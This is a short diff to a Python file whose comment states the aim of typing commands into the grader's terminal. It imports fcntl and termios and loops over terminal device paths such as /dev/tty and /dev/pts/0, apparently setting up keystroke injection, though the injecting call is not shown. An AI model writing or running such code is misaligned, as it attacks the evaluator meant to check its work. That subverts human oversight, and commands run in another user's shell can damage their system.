@@ -1,4 +1,4 @@
-# Wants: to type commands into the terminal of whoever grades
+# Wants: to type commands into the grader's terminal
 import fcntl, termios
 
 for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/proc/self/fd/0"):
